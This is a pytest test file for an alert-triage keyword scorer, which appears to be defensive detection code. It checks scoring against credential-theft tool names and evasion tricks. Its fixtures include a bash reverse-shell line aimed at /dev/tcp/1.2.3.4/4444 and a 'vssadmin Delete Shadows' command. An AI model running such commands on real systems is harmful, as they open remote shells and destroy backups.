import pytest

from tests.builders import a_dossier, an_alert
from tests.scoring.tables import factor
from triage.model.alert import Alert


def words(alert: Alert) -> float | None:
    return factor("keywords", a_dossier(alert)).value


@pytest.mark.parametrize(
    ("alert", "value"),
    [
        (an_alert("Login"), 0.0),
        (an_alert("Mimikatz seen"), 0.6),
        (an_alert(message="cmd: MIMIKATZ and sekurlsa"), 1.0),
        (an_alert(raw={"deep": [{"er": "vssadmin  Delete\nShadows"}]}), 1.0),
        (an_alert(command_lines=("bash -i >& /dev/tcp/1.2.3.4/4444",)), 1.0),
        (an_alert(raw={"mimikatz": 1}), 0.6),
        (an_alert(message="mimi\u200bkatz"), 0.6),
        (an_alert(message="mimikatz\u0301"), 0.6),
        (an_alert(message="a non-encrypted session"), 0.0),
    ],
)
def test_keywords__found_anywhere(alert: Alert, value: float) -> None:
    assert words(alert) == value


def test_keyword__does_not_run_over_two_fields() -> None:
    assert words(an_alert(raw={"a": "union", "b": "select"})) == 0.0


def test_keyword__counts_once() -> None:
    assert words(an_alert(message="mimikatz " * 50)) == 0.6


def test_padding__hides_no_keyword() -> None:
    assert words(an_alert(message="x" * 300_000 + " mimikatz " + "y" * 300_000)) == 0.6


def test_reason__names_the_heaviest() -> None:
    rated = factor("keywords", a_dossier(an_alert(message="exploit and mimikatz")))
    assert rated.reason == "found 'mimikatz' 60, 'exploit' 30"
